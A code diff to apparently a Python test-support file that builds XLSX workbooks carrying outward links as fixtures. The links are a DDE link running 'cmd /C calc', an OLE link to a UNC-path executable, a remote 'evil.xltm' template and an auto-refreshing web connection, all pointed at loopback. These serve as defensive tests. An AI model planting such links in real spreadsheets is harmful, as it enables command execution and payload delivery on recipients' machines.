@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from lxml import etree
 
 from sync.edges.xlsx.a1 import letters
-from tests.support.packages import members, rezipped
+from tests.support.packages import members, rezipped, swap
 
 MAIN: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 TEXTS: Final = "xl/sharedStrings.xml"
@@ -211,3 +211,80 @@ def many_rows(first: int, last: int, row: bytes) -> Iterator[bytes]:
     """Yield rows' XML: *row* with their number for each `%d`."""
     holes = row.count(b"%d")
     return (row % ((at,) * holes) for at in range(first, last))
+
+
+def _relation(identity: str, kind: str, target: str, *, outside: bool = False) -> bytes:
+    mode = ' TargetMode="External"' if outside else ""
+    return f'<Relationship Id="{identity}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'.encode()
+
+
+def _relations(*each: tuple[str, str, str]) -> bytes:
+    """Return the relations of a part, all of which lead out of the package."""
+    space = b"http://schemas.openxmlformats.org/package/2006/relationships"
+    return b'<Relationships xmlns="%b">%b</Relationships>' % (
+        space,
+        b"".join(_relation(*one, outside=True) for one in each),
+    )
+
+
+_TYPES: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+_OUTSIDE: Final = f'xmlns="{MAIN}" xmlns:r="{_OFFICE}"'
+LINKS: Final[Mapping[str, bytes]] = {
+    "xl/externalLinks/externalLink1.xml": (
+        f'<externalLink {_OUTSIDE}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
+        "</externalBook></externalLink>"
+    ).encode(),
+    "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(
+        ("rId1", "externalLinkPath", "http://127.0.0.1:9/prices.xlsx"),
+    ),
+    "xl/externalLinks/externalLink2.xml": (
+        f'<externalLink {_OUTSIDE}><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems>'
+        '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
+    ).encode(),
+    "xl/externalLinks/externalLink3.xml": (
+        f'<externalLink {_OUTSIDE}><oleLink r:id="rId1" progId="Package"/></externalLink>'
+    ).encode(),
+    "xl/externalLinks/_rels/externalLink3.xml.rels": _relations(
+        ("rId1", "oleObject", "file:///\\\\127.0.0.1\\share\\x.exe")
+    ),
+    "xl/connections.xml": (
+        f'<connections {_OUTSIDE}><connection id="1" name="web" type="4" refreshedVersion="6" refreshOnLoad="1">'
+        '<webPr url="http://127.0.0.1:9/rates"/></connection></connections>'
+    ).encode(),
+}
+"""What leads out of a workbook: to another workbook, to a command, to a program, to a page."""
+
+
+def linking(raw: bytes, part: str, at: tuple[int, int]) -> bytes:
+    """Return the workbook with all LINKS, a template on the net, and a cell whose formula follows one of them."""
+    inside = (
+        ("rIdX1", "externalLink", "externalLinks/externalLink1.xml"),
+        ("rIdX2", "externalLink", "externalLinks/externalLink2.xml"),
+        ("rIdX3", "externalLink", "externalLinks/externalLink3.xml"),
+        ("rIdX4", "connections", "connections.xml"),
+    )
+    template = ("rIdX5", "attachedTemplate", "http://127.0.0.1:9/evil.xltm")
+    added = b"".join(_relation(*each) for each in inside) + _relation(*template, outside=True)
+    kinds = b"".join(
+        f'<Override PartName="/{name}" ContentType="{_TYPES}.{name.split("/")[-1].rstrip("123.xml")}+xml"/>'.encode()
+        for name in LINKS
+        if not name.endswith(".rels")
+    )
+    references = b"".join(
+        b'<externalReference xmlns:r="%b" r:id="rIdX%d"/>' % (_OFFICE.encode(), each) for each in (1, 2, 3)
+    )
+
+    def referring(book: bytes) -> bytes:
+        end = book.index(b"</sheets>") + len(b"</sheets>")
+        return book[:end] + b"<externalReferences>" + references + b"</externalReferences>" + book[end:]
+
+    linked = with_cells(raw, part, {at: b"><f>[2]!A0+[1]Sheet1!$A$1</f><v>7.5</v>"})
+    return rezipped(
+        linked,
+        {
+            **LINKS,
+            "xl/workbook.xml": referring,
+            "xl/_rels/workbook.xml.rels": swap(b"</Relationships>", added + b"</Relationships>"),
+            "[Content_Types].xml": swap(b"</Types>", kinds + b"</Types>"),
+        },
+    )
